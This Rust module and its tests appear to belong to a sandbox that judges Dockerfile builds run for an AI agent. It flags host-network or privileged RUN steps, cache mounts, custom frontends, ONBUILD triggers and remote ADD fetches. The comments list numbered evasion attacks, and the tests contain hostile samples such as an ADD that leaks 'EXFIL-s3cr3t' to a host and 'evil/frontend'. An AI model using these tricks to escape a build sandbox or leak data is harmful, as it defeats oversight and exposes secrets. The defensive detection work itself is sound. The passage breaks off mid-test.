//! What a Dockerfile's text asks of the builder beyond building it (spec-notes 0612, 0442):
//! `RUN` steps on the host network or without the sandbox (`--network=host`,
//! `--security=insecure`), BuildKit cache mounts shared with every build on the engine, a
//! frontend of the repository's choosing (`# syntax=`), and the base images whose `ONBUILD`
//! triggers run first. Shared by the two builds a repository names: a Compose service's
//! (`security::compose`) and devcontainer.json's `build` (`ops::dockerfile_judge`), so both
//! ask the same thing the same way ([`Built`]).
//!
//! The text is judged as BuildKit joins its instructions: lines ending in the escape
//! character (`\`, or the `# escape=` directive's) continue on the next, comment and blank
//! lines inside an instruction left out. Every physical line outside a continuation is read
//! as an instruction, heredoc bodies included (`RUN <<EOF` … `EOF`): a body line that reads
//! like an instruction is judged too, which can only ask more, never hide a step (a
//! heredoc's end word is an identifier, so it never continues onto the next instruction).
//! Pure but for [`read_dockerfile`].

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use super::host_path::resolve;
use super::policy::{Permission, Source};

/// The most of a Dockerfile read for judging (bytes).
pub const DOCKERFILE_MAX: u64 = 4 << 20;

/// Whose build a Dockerfile is: it names the requests ([`Built::source`]) and the
/// `runtime-option` grants ([`Built::option`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Built<'a> {
    /// A Compose service's build, by service name: `Source::ComposeService` with the
    /// property `build.dockerfile: <what>`; options `<key>=<service>[:<value>]`.
    ComposeService(&'a str),
    /// devcontainer.json's `build`, by its Dockerfile as shown to the user:
    /// `Source::Dockerfile`; options `<key>=<value>` (`<key>=dockerfile` without a value).
    Dockerfile(&'a str),
}

impl Built<'_> {
    /// The source of a request this build's Dockerfile makes with `what` (the instruction or
    /// flag, as read).
    pub fn source(&self, what: &str) -> Source {
        match self {
            Built::ComposeService(service) => Source::ComposeService {
                service: service.to_string(),
                property: format!("build.dockerfile: {what}"),
            },
            Built::Dockerfile(file) => Source::Dockerfile {
                file: file.to_string(),
                what: what.to_string(),
            },
        }
    }

    /// The `runtime-option` request `key` of this build, with `value` when there is one:
    /// `build_onbuild=<service>:<image>` for a Compose service, `build_onbuild=<image>` for
    /// devcontainer.json's build.
    pub fn option(&self, key: &str, value: Option<&str>) -> Permission {
        Permission::RuntimeOption(match (self, value) {
            (Built::ComposeService(service), Some(v)) => format!("{key}={service}:{v}"),
            (Built::ComposeService(service), None) => format!("{key}={service}"),
            (Built::Dockerfile(_), Some(v)) => format!("{key}={v}"),
            (Built::Dockerfile(_), None) => format!("{key}=dockerfile"),
        })
    }
}

/// Every request the text of `built`'s Dockerfile makes with the build's arguments `args`
/// ([`run_step_requests`], a cache mount, the frontend: [`frontend`] of the build's
/// `BUILDKIT_SYNTAX` argument, its own `ONBUILD` triggers: [`onbuild_triggers`], the remote
/// `ADD` sources: [`remote_sources`]), each named by `built`. Pure.
pub fn text_requests(
    built: Built<'_>,
    text: &str,
    args: &BTreeMap<String, String>,
) -> Vec<(Permission, Source)> {
    let syntax_arg = args.get("BUILDKIT_SYNTAX").map(String::as_str);
    let mut asked: Vec<(Permission, Source)> = run_step_requests(text)
        .into_iter()
        .map(|(permission, what)| (permission, built.source(&what)))
        .collect();
    if has_cache_mount(text) {
        asked.push((
            built.option("build_cache_mount", None),
            built.source("RUN --mount=type=cache"),
        ));
    }
    if let Some(name) = frontend(syntax_arg, Some(text)) {
        asked.push((
            built.option("build_frontend", Some(&name)),
            built.source(&format!("# syntax={name}")),
        ));
    }
    if let Some(what) = onbuild_triggers(text) {
        asked.push((built.option("build_onbuild", None), built.source(&what)));
    }
    for (host, what) in remote_sources(text, args) {
        asked.push((
            built.option("build_fetch", Some(&host)),
            built.source(&what),
        ));
    }
    asked
}

/// The `ONBUILD` instructions of a Dockerfile, joined with ` | ` as read; `None` without any.
/// The image a Dockerfile builds carries them as triggers, and devcell builds its own layers
/// (Features, uid) `FROM` that image, so they run there, where the Dockerfile's own judgement
/// does not look: an `ONBUILD COPY --from=<image>` pulls an image of the agent's choosing
/// (attack 23, N16), an `ONBUILD RUN --mount=type=cache` shares a cache. Any trigger is the
/// `build_onbuild` request of the build ([`Built::option`]), as a base image's triggers are
/// ([`onbuild_request`]). Pure.
pub fn onbuild_triggers(text: &str) -> Option<String> {
    let mut triggers: Vec<String> = Vec::new();
    for (instruction, escape) in read_instructions(text) {
        let mut words = Words::new(&instruction, escape);
        if words
            .next()
            .is_some_and(|k| k.eq_ignore_ascii_case("onbuild"))
            && !triggers.contains(&instruction)
        {
            triggers.push(instruction);
        }
    }
    (!triggers.is_empty()).then(|| triggers.join(" | "))
}

/// The remote sources of a Dockerfile's `ADD` instructions (and `ONBUILD ADD`), as `(host,
/// instruction as read)`: a URL (`http://`, `https://`, `git://`, `ssh://`, any `scheme://`)
/// or an scp-like git address (`git@host:path`) is fetched by the builder itself, on the
/// host's network whatever the build's network is, so under a closed build network (spec-note
/// 0442) it carries whatever the agent wrote into its path out (attack L6). Each source is
/// read with its variables expanded as the builder expands them ([`Variables`]: the build's
/// `args` over the `ARG` defaults, scoped by stage, `ENV` over `ARG`; attack 23, N20), so the
/// host asked is the one fetched from, and a grant of it pins that host. A source still
/// holding a `$` (a variable only the builder knows: the base image's `ENV`, an automatic
/// argument, an `ONBUILD` trigger's later build) is judged wide ([`remote_host`]); its
/// request holds the `$`, which no standing grant may name
/// ([`crate::security::choice`]): it is granted for one run only. Pure.
pub fn remote_sources(text: &str, args: &BTreeMap<String, String>) -> Vec<(String, String)> {
    let mut found: Vec<(String, String)> = Vec::new();
    let (body, escapes) = read(text);
    for escape in escapes {
        let mut variables = Variables::new(args);
        for instruction in dockerfile_instructions(body, escape) {
            let mut words = Words::new(&instruction, escape);
            let Some(mut keyword) = words.next().map(|k| k.to_ascii_lowercase()) else {
                continue;
            };
            // a trigger runs in a later build, whose variables are not this file's
            let onbuild = keyword == "onbuild";
            if onbuild {
                keyword = words.next().unwrap_or_default().to_ascii_lowercase();
            }
            match keyword.as_str() {
                "from" if !onbuild => variables.enter_stage(),
                "arg" if !onbuild => variables.arg(words),
                "env" if !onbuild => variables.env(words),
                "add" => {
                    let empty = BTreeMap::new();
                    let values = if onbuild { &empty } else { variables.values() };
                    for (host, what) in add_sources(&mut words, values) {
                        if !found.iter().any(|(h, w)| *h == host && *w == what) {
                            found.push((host, what));
                        }
                    }
                }
                _ => {}
            }
        }
    }
    found
}

/// The remote sources of the rest of an `ADD` instruction (`words`, after the keyword), as
/// [`remote_sources`] gives them, each expanded with `values`.
fn add_sources(words: &mut Words<'_>, values: &BTreeMap<String, String>) -> Vec<(String, String)> {
    while words.peek_flag().is_some() {}
    let rest = words.rest.trim();
    let mut sources: Vec<String> = if rest.starts_with('[') {
        serde_json::from_str::<Vec<String>>(rest).unwrap_or_else(|_| words.collect())
    } else {
        words.collect()
    };
    sources.pop(); // the destination
    let mut found = Vec::new();
    for source in sources {
        let expanded = expand(&source, values);
        if let Some(host) = remote_host(&expanded) {
            let what = if expanded == source {
                format!("ADD {source}")
            } else {
                format!("ADD {source} (as the build expands it: {expanded})")
            };
            found.push((host, what));
        }
    }
    found
}

/// `word` with the variables of `values` expanded as the builders expand them: `$NAME`,
/// `${NAME}`, `${NAME:-word}` (`word` when the value is empty) and `${NAME:+word}` (`word`
/// when it is not; empty otherwise), `word` itself expanded. A variable `values` does not hold
/// (one only the builder knows, an automatic platform argument) or a form other than these is
/// left as written, so its `$` stays: the caller's sign that the builder decides the value
/// (attack 23, N20).
pub(super) fn expand(word: &str, values: &BTreeMap<String, String>) -> String {
    let mut out = String::with_capacity(word.len());
    let mut rest = word;
    while let Some(at) = rest.find('$') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        match expand_one(after, values) {
            Some((value, used)) => {
                out.push_str(&value);
                rest = &after[used..];
            }
            None => {
                out.push('$');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The value of the variable reference that `after` (the text after a `$`) starts with, and
/// how many bytes of `after` it spans ([`expand`]); `None` when `values` does not hold the
/// variable or the form is not one [`expand`] reads.
fn expand_one(after: &str, values: &BTreeMap<String, String>) -> Option<(String, usize)> {
    let name_len = |s: &str| {
        s.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(s.len())
    };
    let Some(body) = after.strip_prefix('{') else {
        let len = name_len(after);
        if len == 0 {
            return None;
        }
        return Some((values.get(&after[..len])?.clone(), len));
    };
    // the `}` closing this reference, past any nested `${…}` in its word
    let mut depth = 0usize;
    let close = body.char_indices().find_map(|(i, c)| match c {
        '{' => {
            depth += 1;
            None
        }
        '}' if depth == 0 => Some(i),
        '}' => {
            depth -= 1;
            None
        }
        _ => None,
    })?;
    let inner = &body[..close];
    let (name, form) = inner.split_at(name_len(inner));
    let value = values.get(name)?;
    let expanded = if form.is_empty() {
        value.clone()
    } else if let Some(word) = form.strip_prefix(":-") {
        if value.is_empty() {
            expand(word, values)
        } else {
            value.clone()
        }
    } else if let Some(word) = form.strip_prefix(":+") {
        if value.is_empty() {
            String::new()
        } else {
            expand(word, values)
        }
    } else {
        return None;
    };
    Some((expanded, close + 2))
}

/// The variables a Dockerfile's instructions are expanded with, scoped as the builders scope
/// them: before the first `FROM`, the build's arguments over the `ARG` defaults; in a stage,
/// only what the stage declares (`ARG NAME` brings in the build argument, else the default
/// declared before the first `FROM`; `ENV` overrides `ARG`). A variable the stage inherits
/// from its base (its `ENV`) is not known here: it stays unexpanded.
struct Variables<'a> {
    args: &'a BTreeMap<String, String>,
    global: BTreeMap<String, String>,
    stage: Option<BTreeMap<String, String>>,
    /// The names the current stage set with `ENV`.
    env: BTreeSet<String>,
}

impl<'a> Variables<'a> {
    fn new(args: &'a BTreeMap<String, String>) -> Self {
        Variables {
            args,
            global: BTreeMap::new(),
            stage: None,
            env: BTreeSet::new(),
        }
    }

    /// The values the current instruction is expanded with.
    fn values(&self) -> &BTreeMap<String, String> {
        self.stage.as_ref().unwrap_or(&self.global)
    }

    /// A `FROM`: a new stage, with nothing declared.
    fn enter_stage(&mut self) {
        self.stage = Some(BTreeMap::new());
        self.env.clear();
    }

    /// An `ARG` instruction's words (`NAME`, `NAME=default`).
    fn arg(&mut self, words: Words<'_>) {
        for word in words {
            let (name, default) = match word.split_once('=') {
                Some((n, d)) => (n.to_string(), Some(d.to_string())),
                None => (word.clone(), None),
            };
            let value = match (self.args.get(&name), &default, &self.stage) {
                (Some(arg), _, _) => arg.clone(),
                (None, Some(d), _) => expand(d, self.values()),
                (None, None, Some(_)) => match self.global.get(&name) {
                    Some(global) => global.clone(),
                    None => continue,
                },
                // neither an argument nor a default: unknown, its `$` left as written
                (None, None, None) => continue,
            };
            match &mut self.stage {
                // an `ENV` of the same name wins over a later `ARG`
                Some(_) if self.env.contains(&name) => {}
                Some(stage) => {
                    stage.insert(name, value);
                }
                None => {
                    self.global.insert(name, value);
                }
            }
        }
    }

    /// An `ENV` instruction's words (`NAME=value …`, or the old `NAME value`).
    fn env(&mut self, mut words: Words<'_>) {
        let Some(stage) = self.stage.as_mut() else {
            return;
        };
        let Some(first) = words.next() else {
            return;
        };
        let mut pairs: Vec<(String, String)> = Vec::new();
        match first.split_once('=') {
            Some((n, v)) => {
                pairs.push((n.to_string(), v.to_string()));
                pairs.extend(words.filter_map(|w| {
                    w.split_once('=')
                        .map(|(n, v)| (n.to_string(), v.to_string()))
                }));
            }
            None => pairs.push((first, words.collect::<Vec<_>>().join(" "))),
        }
        for (name, value) in pairs {
            let value = expand(&value, stage);
            stage.insert(name.clone(), value);
            self.env.insert(name);
        }
    }
}

/// The host a remote `ADD` source names (see [`remote_sources`]), lowercased, with its port;
/// `None` for a path of the build context. Read wide (attack M3: `h${E}ttp://…` with an empty
/// `ARG E` is a URL to the builder, which expands it first): a source with `://` anywhere is a
/// URL, its host what follows; one with a `$` anywhere is decided by the build, its host the
/// source as written up to its first `/`; a `user@host:path` shape (a `@` before a `:`) is a
/// git address; `github.com/…` is one to the classic builder.
fn remote_host(source: &str) -> Option<String> {
    if let Some((_, rest)) = source.split_once("://") {
        let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
        let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
        return Some(host.to_ascii_lowercase());
    }
    if source.contains('$') {
        let head = source.split('/').next().unwrap_or(source);
        let named = if matches!(head, "" | "." | "..") {
            source
        } else {
            head
        };
        return Some(named.to_string());
    }
    if source.to_ascii_lowercase().starts_with("github.com/") {
        return Some("github.com".into());
    }
    // `git@host:path`: a user, a host and a colon after the `@`
    let (_, after_user) = source.split_once('@')?;
    let (host, _) = after_user.split_once(':')?;
    let host = host.rsplit('/').next().unwrap_or(host);
    if host.is_empty() {
        return None;
    }
    Some(host.to_ascii_lowercase())
}

/// The request of a base `image` of `built`'s build whose `ONBUILD` `triggers` run first in
/// it (attacks G9): `runtime-option:build_onbuild=…`, the source showing the triggers.
pub fn onbuild_request(built: Built<'_>, image: &str, triggers: &[String]) -> (Permission, Source) {
    let what = format!("its base image's ONBUILD {}", triggers.join(" | "));
    let source = match built {
        // as the Compose build named it before the Dockerfile build shared it
        Built::ComposeService(service) => Source::ComposeService {
            service: service.to_string(),
            property: format!("build: {what}"),
        },
        Built::Dockerfile(_) => built.source(&format!("FROM {image}: {what}")),
    };
    (built.option("build_onbuild", Some(image)), source)
}

/// The request of the image devcell builds its Features and uid layers `FROM` when it has
/// `ONBUILD` `triggers` (they run first in those builds; attacks G9): an `image`
/// configuration's (`service` `None`: `build_onbuild=<image>`, source [`Source::Image`]) or a
/// Compose primary's that Compose does not build (`build_onbuild=<service>:<image>`, source the
/// service's `image`). The same grant as the base of a build with those triggers. Pure.
pub fn image_onbuild_request(
    service: Option<&str>,
    image: &str,
    triggers: &[String],
) -> (Permission, Source) {
    let what = format!("ONBUILD {}", triggers.join(" | "));
    match service {
        Some(service) => (
            Built::ComposeService(service).option("build_onbuild", Some(image)),
            Source::ComposeService {
                service: service.to_string(),
                property: format!("image: {what}"),
            },
        ),
        None => (
            Built::Dockerfile(image).option("build_onbuild", Some(image)),
            Source::Image {
                image: image.to_string(),
                what,
            },
        ),
    }
}

/// The requests of the `RUN` steps (an `ONBUILD RUN` too: it runs in the next build, which
/// devcell makes itself for the Features and the uid layer) that leave the build's sandbox,
/// read from their flags (the words starting with `--` before the command, `--flag=value` or
/// `--flag value`, quotes and escapes removed, any case): `--network=host` is
/// [`Permission::HostNetwork`] (the step in the host's network namespace), `--security=insecure`
/// [`Permission::Privileged`] (a privileged step); a value other than `none`, `default`,
/// `sandbox` (one naming a build argument, a value a newer builder may accept) counts as the
/// one that leaves. Each with the flag as read (`RUN --network=host`). Pure.
pub fn run_step_requests(text: &str) -> Vec<(Permission, String)> {
    let mut asked = Vec::new();
    for (instruction, escape) in read_instructions(text) {
        let Some(flags) = run_flags(&instruction, escape) else {
            continue;
        };
        for (name, value) in flags {
            let leaves = !matches!(value.as_str(), "none" | "default" | "sandbox");
            let permission = match name.as_str() {
                "network" if leaves => Permission::HostNetwork,
                "security" if leaves => Permission::Privileged,
                _ => continue,
            };
            let what = format!("RUN --{name}={value}");
            if !asked.iter().any(|(p, w)| *p == permission && *w == what) {
                asked.push((permission, what));
            }
        }
    }
    asked
}

/// The flags of a `RUN` instruction (or `ONBUILD RUN`), lowercased `(name, value)`; `None`
/// for another instruction. Flags are the words starting with `--` before the first word that
/// does not; `--network host` (a value as the next word) is read as `--network=host`.
fn run_flags(instruction: &str, escape: char) -> Option<Vec<(String, String)>> {
    let mut words = Words::new(instruction, escape);
    let mut keyword = words.next()?.to_ascii_lowercase();
    if keyword == "onbuild" {
        keyword = words.next()?.to_ascii_lowercase();
    }
    if keyword != "run" {
        return None;
    }
    let mut flags = Vec::new();
    while let Some(word) = words.peek_flag() {
        let word = word.to_ascii_lowercase();
        let body = &word[2..];
        match body.split_once('=') {
            Some((name, value)) => flags.push((name.to_string(), value.to_string())),
            None if matches!(body, "network" | "security") => {
                let value = words.next().unwrap_or_default().to_ascii_lowercase();
                flags.push((body.to_string(), value));
            }
            None => flags.push((body.to_string(), String::new())),
        }
    }
    Some(flags)
}

/// The words of an instruction, split on blanks outside quotes, quotes and escape characters
/// removed.
pub(super) struct Words<'a> {
    rest: &'a str,
    escape: char,
}

impl<'a> Words<'a> {
    pub(super) fn new(text: &'a str, escape: char) -> Words<'a> {
        Words { rest: text, escape }
    }

    /// The next word, when it starts with `--` (a flag); else `None`, the word left.
    pub(super) fn peek_flag(&mut self) -> Option<String> {
        self.rest = self.rest.trim_start();
        if self.rest.starts_with("--") {
            self.next()
        } else {
            None
        }
    }
}

impl Iterator for Words<'_> {
    type Item = String;

    fn next(&mut self) -> Option<String> {
        self.rest = self.rest.trim_start();
        if self.rest.is_empty() {
            return None;
        }
        let mut word = String::new();
        let mut quote: Option<char> = None;
        let mut escaped = false;
        let mut end = self.rest.len();
        for (i, c) in self.rest.char_indices() {
            match (escaped, quote, c) {
                (true, _, c) => {
                    word.push(c);
                    escaped = false;
                }
                (false, _, c) if c == self.escape => escaped = true,
                (false, Some(q), c) if c == q => quote = None,
                (false, None, '"' | '\'') => quote = Some(c),
                (false, None, c) if c.is_whitespace() => {
                    end = i;
                    break;
                }
                (false, _, c) => word.push(c),
            }
        }
        self.rest = &self.rest[end..];
        Some(word)
    }
}

/// The frontend a build names beside its Dockerfile's text (attacks G9): the build argument
/// `BUILDKIT_SYNTAX` (`syntax_arg`), else the Dockerfile's `# syntax=` parser directive.
/// BuildKit hands the whole build to that image, which can turn any text into any build,
/// cache mounts and host-network steps included.
pub fn frontend(syntax_arg: Option<&str>, text: Option<&str>) -> Option<String> {
    syntax_arg
        .map(str::to_string)
        .or_else(|| text.and_then(syntax_directive))
}

/// The `syntax` parser directive as BuildKit finds it (attack finding J4): after a UTF-8
/// byte-order mark and one `#!` line are dropped, in the `# key=value` (or `// key=value`)
/// lines that open the file, else in the whole file read as a JSON object
/// (`{"syntax": "…"}`). Read more widely than BuildKit does where in doubt (blank lines
/// between directives, any case), so the judge never sees less than the builder.
fn syntax_directive(text: &str) -> Option<String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut lines = text.lines().peekable();
    if lines
        .peek()
        .is_some_and(|l| l.trim_start().starts_with("#!"))
    {
        lines.next();
    }
    for line in lines {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        let Some(directive) = line.strip_prefix("//").or_else(|| line.strip_prefix('#')) else {
            break;
        };
        let Some((key, value)) = directive.split_once('=') else {
            continue;
        };
        if key.trim().eq_ignore_ascii_case("syntax") {
            return Some(value.trim().to_string());
        }
    }
    let json: serde_json::Value = serde_json::from_str(text.trim()).ok()?;
    json.as_object()?
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("syntax"))
        .map(|(_, v)| v.as_str().map_or_else(|| v.to_string(), str::to_string))
}

/// The text of the Dockerfile at `path`, read without following links and at most
/// [`DOCKERFILE_MAX`] bytes; `Ok(None)` when there is none, `Err` when it cannot be read
/// (a link, not a regular file, too large, a read error).
#[allow(clippy::result_unit_err)]
pub fn read_dockerfile(path: &Path) -> std::result::Result<Option<String>, ()> {
    let resolved = resolve(path).map_err(|_| ())?;
    match super::host_path::read_no_follow(&resolved, DOCKERFILE_MAX) {
        Ok(bytes) => Ok(bytes.map(|b| String::from_utf8_lossy(&b).into_owned())),
        Err(_) => Err(()),
    }
}

/// Whether Dockerfile `text` mounts a BuildKit cache (`--mount=type=cache`, any spelling of
/// the flag's case, quoting and escaping), judged on its instructions as BuildKit joins them.
/// A `--mount` whose value holds a `$` (a build argument BuildKit expands) counts too. Pure.
pub fn has_cache_mount(text: &str) -> bool {
    read_instructions(text)
        .iter()
        .any(|(instruction, escape)| mounts_a_cache(instruction, *escape))
}

/// A Dockerfile's text as its builder reads it, and the escape characters to read it with: a
/// leading UTF-8 byte-order mark dropped (BuildKit and the classic builder drop it; attack M3,
/// where it hid the `# escape=` directive from devcell only), then [`escape_chars`]. Every
/// check of the text reads it through here, once per escape character.
pub(super) fn read(text: &str) -> (&str, Vec<char>) {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    (text, escape_chars(text))
}

/// The instructions of a Dockerfile as [`read`] reads them, each with the escape character
/// it was read with: every reading's, one after the other.
fn read_instructions(text: &str) -> Vec<(String, char)> {
    let (text, escapes) = read(text);
    escapes
        .into_iter()
        .flat_map(|escape| {
            dockerfile_instructions(text, escape)
                .into_iter()
                .map(move |i| (i, escape))
        })
        .collect()
}

/// The escape characters a Dockerfile may be read with, `\` first: `\`, and `` ` `` when a
/// `# escape=`` ` `` line appears anywhere in the comment block that opens the file (blank
/// lines and `#` lines before the first instruction). Builders disagree on where the parser
/// directives end (attack N4: the classic builder of Docker 20.10 knows only `escape` and
/// `syntax`, so a `# check=…` line before `# escape=` ends its directives and it keeps `\`,
/// while BuildKit reads on), so no one reading is chosen: every check judges the text with
/// each, and asks the union. `escape` accepts no other value (the builders refuse one).
pub(super) fn escape_chars(text: &str) -> Vec<char> {
    let mut escapes = vec!['\\'];
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        let Some(comment) = line.strip_prefix('#') else {
            break;
        };
        if let Some((key, value)) = comment.split_once('=')
            && key.trim().eq_ignore_ascii_case("escape")
            && value.trim() == "`"
            && !escapes.contains(&'`')
        {
            escapes.push('`');
        }
    }
    escapes
}

/// The instructions of a Dockerfile, continued lines joined (the escape character and line
/// break dropped), comment and blank lines left out. A comment line is never continued: the
/// parser directive `# escape=`` ` ends with the escape character, and joining the next line
/// to it hid the first instruction (a `FROM` whose `ONBUILD` triggers run) from every check.
///
/// A line continues when it ends in `escape` followed only by spaces and tabs (after its line
/// break characters `\r`/`\n`): the builders' rule, byte for byte (`\\[ \t]*$`). Rust's
/// `trim_end` drops every Unicode blank, and a U+00A0 after the escape joined the next line
/// (an `ADD <url>`) into the one before for devcell only (attack N5).
pub(super) fn dockerfile_instructions(text: &str, escape: char) -> Vec<String> {
    let mut instructions = Vec::new();
    let mut current: Option<String> = None;
    for line in text.lines() {
        let trimmed = line.trim();
        if trimmed.is_empty() || trimmed.starts_with('#') {
            continue;
        }
        let mut part = current.take().unwrap_or_default();
        match continued(line, escape) {
            Some(head) => {
                part.push_str(head);
                current = Some(part);
            }
            None => {
                part.push_str(line);
                instructions.push(part);
            }
        }
    }
    instructions.extend(current);
    instructions
}

/// `line` without its escape character when the builder continues it on the next line
/// (`escape`, then only spaces and tabs, then the line break); `None` otherwise.
pub(super) fn continued(line: &str, escape: char) -> Option<&str> {
    line.trim_end_matches(['\r', '\n'])
        .trim_end_matches([' ', '\t'])
        .strip_suffix(escape)
}

/// Whether one joined instruction has a `--mount` flag of `type=cache`, or one whose value
/// BuildKit would expand (`$`): each `--mount` runs to the first blank outside quotes, and is
/// read with quotes and escape characters removed.
fn mounts_a_cache(instruction: &str, escape: char) -> bool {
    let lower = instruction.to_ascii_lowercase();
    let mut rest = lower.as_str();
    while let Some(at) = rest.find("--mount") {
        let flag = &rest[at..];
        let mut quote: Option<char> = None;
        let mut value = String::new();
        let mut end = flag.len();
        for (i, c) in flag.char_indices() {
            match (quote, c) {
                (Some(q), c) if c == q => quote = None,
                (None, '"' | '\'') => quote = Some(c),
                (None, c) if c.is_whitespace() => {
                    end = i;
                    break;
                }
                (_, c) if c == escape => {}
                (_, c) => value.push(c),
            }
        }
        if value.contains('$') || value.contains("type=cache") {
            return true;
        }
        rest = &flag[end.max(1)..];
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    fn asked(text: &str) -> Vec<String> {
        run_step_requests(text)
            .into_iter()
            .map(|(p, what)| format!("{} <- {what}", p.grant_flag().unwrap()))
            .collect()
    }

    /// Attack (H6 of the 18th review): a `RUN --network=host` step runs in the host's network
    /// namespace (host loopback services, the cloud metadata address) under a handoff's
    /// network `none`, and `--security=insecure` a privileged step: each is the request a
    /// host network or privileged mode is, in every spelling a builder reads, and only when
    /// it is a flag of the step (before its command).
    #[test]
    fn a_run_step_on_the_host_network_is_a_request() {
        let host = ["--allow network:host <- RUN --network=host".to_string()];
        let insecure = vec!["--allow privileged <- RUN --security=insecure".to_string()];
        for text in [
            "FROM a\nRUN --network=host wget -qO- http://127.0.0.1:5000/\n",
            "FROM a\nrun --NETWORK=HOST true\n",
            "FROM a\nRUN --network host true\n",
            "FROM a\nRUN --mount=type=secret,id=a --network=\"host\" true\n",
            "FROM a\nRUN \\\n  --network=host \\\n  true\n",
            "FROM a\nRUN --net\\\nwork=host true\n",
            "FROM a\nRUN \\\n# a comment\n\n  --network=host true\n",
            "# escape=`\nFROM a\nRUN `\n --network=host true\n",
            "FROM a\nRUN --network=host <<EOF\nwget http://127.0.0.1/\nEOF\n",
            "FROM a\nRUN --network=host [\"wget\", \"http://127.0.0.1/\"]\n",
            "FROM a\nONBUILD RUN --network=host true\n",
            "FROM a\nRUN --network=$NET true\n",
            "FROM a\nRUN <<EOF\ntrue \\\nEOF\nRUN --network=host true\n",
        ] {
            let got = asked(text);
            let want: Vec<String> = host
                .iter()
                .map(|h| {
                    if text.contains("$NET") {
                        "--allow network:host <- RUN --network=$net".to_string()
                    } else {
                        h.clone()
                    }
                })
                .collect();
            assert_eq!(got, want, "{text:?}");
        }
        assert_eq!(
            asked("FROM a\nRUN --security=insecure --network=none true\n"),
            insecure
        );
        for text in [
            "FROM a\nRUN echo --network=host\n",
            "FROM a\nRUN --network=none true\nRUN --network=default true\n",
            "FROM a\nRUN --security=sandbox true\n",
            "FROM a\nRUN <<EOF\ncurl --network=host http://x/\necho --security=insecure\nEOF\n",
            "FROM a\n# RUN --network=host true\n",
            "FROM a\nCOPY --network=host a b\n",
            "FROM a\nRUN true \\\n  --network=host\n",
        ] {
            assert!(asked(text).is_empty(), "{text:?}: {:?}", asked(text));
        }
        // both builds name it the same way, each by its own source
        let text = "# syntax=evil/frontend:1\nFROM a\nRUN --network=host --mount=type=cache,target=/c true\n";
        let compose: Vec<String> =
            text_requests(Built::ComposeService("app"), text, &BTreeMap::new())
                .into_iter()
                .map(|(p, s)| format!("{} <- {s}", p.grant_flag().unwrap()))
                .collect();
        assert_eq!(
            compose,
            [
                "--allow network:host <- Compose service `app` (`build.dockerfile: RUN --network=host`)",
                "--allow runtime-option:build_cache_mount=app <- Compose service `app` (`build.dockerfile: RUN --mount=type=cache`)",
                "--allow runtime-option:build_frontend=app:evil/frontend:1 <- Compose service `app` (`build.dockerfile: # syntax=evil/frontend:1`)",
            ]
        );
        let own: Vec<String> = text_requests(
            Built::Dockerfile(".devcontainer/Dockerfile"),
            text,
            &BTreeMap::from([(
                "BUILDKIT_SYNTAX".to_string(),
                "other/frontend:2".to_string(),
            )]),
        )
        .into_iter()
        .map(|(p, s)| format!("{} <- {s}", p.grant_flag().unwrap()))
        .collect();
        assert_eq!(
            own,
            [
                "--allow network:host <- Dockerfile `.devcontainer/Dockerfile` (`RUN --network=host`)",
                "--allow runtime-option:build_cache_mount=dockerfile <- Dockerfile `.devcontainer/Dockerfile` (`RUN --mount=type=cache`)",
                "--allow runtime-option:build_frontend=other/frontend:2 <- Dockerfile `.devcontainer/Dockerfile` (`# syntax=other/frontend:2`)",
            ]
        );
    }

    /// Attack finding J4: BuildKit finds a frontend behind a byte-order mark, after a `#!`
    /// line, in a `//` directive and in a JSON Dockerfile; each is the same request.
    #[test]
    fn a_frontend_named_the_ways_buildkit_reads_it_is_found() {
        let name = Some("evil/frontend:1".to_string());
        for text in [
            "# syntax=evil/frontend:1\nFROM a\n",
            "\u{feff}# syntax=evil/frontend:1\nFROM a\n",
            "#!/usr/bin/env dockerfile\n# syntax=evil/frontend:1\nFROM a\n",
            "// syntax=evil/frontend:1\nFROM a\n",
            "#  SYNTAX = evil/frontend:1 \n\n# escape=`\nFROM a\n",
            "# escape=\\\n\n# syntax=evil/frontend:1\nFROM a\n",
            "{\"syntax\": \"evil/frontend:1\"}",
        ] {
            assert_eq!(frontend(None, Some(text)), name, "{text:?}");
        }
        assert_eq!(
            frontend(None, Some("FROM a\n# syntax=late/frontend:1\n")),
            None
        );
        assert_eq!(frontend(None, Some("# a comment\nFROM a\n")), None);
    }

    /// Attack L6: an `ADD` of a URL or a git address is fetched by the builder on the host's
    /// network whatever the build's: each is a `build_fetch=<host>` request, named as read;
    /// a path of the context is not.
    #[test]
    fn a_remote_add_is_a_build_fetch_request() {
        let text = "FROM busybox\n\
            ADD --chown=1:1 http://127.0.0.1:18996/EXFIL-s3cr3t /x\n\
            add --checksum=sha256:00 HTTPS://user:pw@Example.test/a?b /y\n\
            ADD git@git.example.test:org/repo.git /src\n\
            ADD [\"https://json.example.test/f\", \"/j\"]\n\
            ONBUILD ADD git://later.example.test/r /r\n\
            ADD $SRC/file /v\n\
            ADD local.tar ./dir/ /l\n\
            ADD c:/windows-looking /w\n";
        let hosts: Vec<String> = remote_sources(text, &BTreeMap::new())
            .into_iter()
            .map(|(h, _)| h)
            .collect();
        assert_eq!(
            hosts,
            [
                "127.0.0.1:18996",
                "example.test",
                "git.example.test",
                "json.example.test",
                "later.example.test",
                "$SRC",
            ]
        );
        let asked = text_requests(Built::Dockerfile("Dockerfile"), text, &BTreeMap::new());
        assert!(
            asked.iter().any(|(p, _)| *p
                == Permission::RuntimeOption("build_fetch=127.0.0.1:18996".into())),
            "{asked:?}"
        );
        assert!(
            remote_sources("FROM x\nADD a b /c\nCOPY http://x/y /z\n", &BTreeMap::new()).is_empty()
        );
    }

    /// Attack M3: a UTF-8 byte-order mark before `# escape=` (which the builders drop, so
    /// they read the directive) hid a remote `ADD`, a `RUN --network=host`, a cache mount and a
    /// base image behind lines devcell joined with the wrong escape; a `$` inside the scheme
    /// (`h${E}ttp://`, the builder expands it) hid a URL. Each is a request.
    #[test]
